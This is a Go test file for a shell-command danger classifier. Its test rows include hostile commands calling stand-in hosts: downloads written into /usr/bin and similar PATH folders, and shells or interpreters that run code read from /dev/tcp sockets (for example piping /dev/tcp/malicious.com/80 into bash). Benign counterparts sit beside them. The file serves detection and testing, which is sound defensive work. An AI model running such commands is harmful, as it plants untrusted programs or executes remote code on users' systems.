package danger

import "testing"

// TestDownloadsIntoProgramFolders: a download saved into a folder on the
// system's PATH puts an unknown program where every user's shell finds it
// (heldout10 w0231 "curl … -o /usr/bin/tool", w0608 "wget … -O
// /usr/local/bin/tool", both persistence-startup-files; README's dev6
// call: a program copied into /usr/bin is persistence-startup-files). The
// family is every downloader's option that names the saved file or its
// folder: curl(1) -o/--output, -O with --output-dir; wget(1) -O,
// --output-document, -P/--directory-prefix; aria2c(1) -d/--dir with -o;
// axel(1) -o; HTTPie's --download --output; FreeBSD fetch(1) -o. Everyday
// beside them: the same downloads into the project or /tmp, and a
// download printed to standard output.
func TestDownloadsIntoProgramFolders(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`curl http://unknown.com/binary -o /usr/bin/tool`, PersistenceStartupFiles},
		{`wget http://unknown.com/binary -O /usr/local/bin/tool`, PersistenceStartupFiles},
		{`curl -fsSL --output /usr/local/bin/kubectl https://dl.k8s.io/v1.30.0/bin/linux/amd64/kubectl`, PersistenceStartupFiles},
		{`curl -o/usr/sbin/helper https://x.example/h`, PersistenceStartupFiles},
		{`curl --output-dir /usr/local/bin -O https://x.example/tool`, PersistenceStartupFiles},
		{`wget --output-document=/bin/ls https://x.example/ls`, PersistenceStartupFiles},
		{`wget -P /usr/local/bin https://x.example/tool`, PersistenceStartupFiles},
		{`wget --directory-prefix=/usr/bin https://x.example/tool`, PersistenceStartupFiles},
		{`aria2c -d /usr/local/bin -o tool https://x.example/tool`, PersistenceStartupFiles},
		{`axel -o /usr/local/sbin/tool https://x.example/tool`, PersistenceStartupFiles},
		{`http --download https://x.example/tool --output /usr/bin/tool`, PersistenceStartupFiles},
		{`fetch -o /usr/local/bin/tool https://x.example/tool`, PersistenceStartupFiles},
		// Everyday: downloads into the project, /tmp or the standard output.
		{`curl http://unknown.com/binary -o tool`, ""},
		{`curl -o /tmp/tool https://x.example/tool`, ""},
		{`wget -P downloads https://x.example/tool.tar.gz`, ""},
		{`wget -O - https://x.example/usr/bin/tool`, ""},
		{`aria2c -d /tmp -o tool https://x.example/tool`, ""},
		{`curl https://x.example/usr/local/bin/tool`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestShellRunsWhatASocketSends: a shell (or an interpreter) that reads
// its program from a network socket runs what the remote host sends, as
// "curl URL | sh" does (heldout10 w0252 "cat /dev/tcp/malicious.com/80 |
// bash", download-execute). bash(1) REDIRECTION opens /dev/tcp/HOST/PORT
// and /dev/udp/HOST/PORT as sockets; the family is every way the shell's
// standard input comes from one: the shell's own "<" redirect, or cat of
// the socket piped into it (the drawer's label for the argument form,
// which bash does not emulate outside a redirect, is followed). Everyday
// beside them: the socket read and printed, a literal sent to it, a local
// script piped into a shell.
func TestShellRunsWhatASocketSends(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`cat /dev/tcp/malicious.com/80 | bash`, DownloadExecute},
		{`cat < /dev/tcp/evil.example/80 | sh`, DownloadExecute},
		{`bash < /dev/tcp/evil.example/4444`, DownloadExecute},
		{`sh -s < /dev/udp/10.0.0.1/53`, DownloadExecute},
		{`zsh 0</dev/tcp/10.0.0.1/9001`, DownloadExecute},
		{`cat </dev/tcp/10.0.0.1/80 | python3`, DownloadExecute},
		{`perl < /dev/tcp/10.0.0.1/80`, DownloadExecute},
		// Everyday: nothing run from the socket.
		{`cat < /dev/tcp/time.nist.gov/13`, ""},
		{`cat /dev/tcp/example.com/80`, ""},
		{`cat install.sh | bash`, ""},
		{`bash < ./setup.sh`, ""},
		{`cat /dev/tcp/example.com/80 | grep HTTP`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
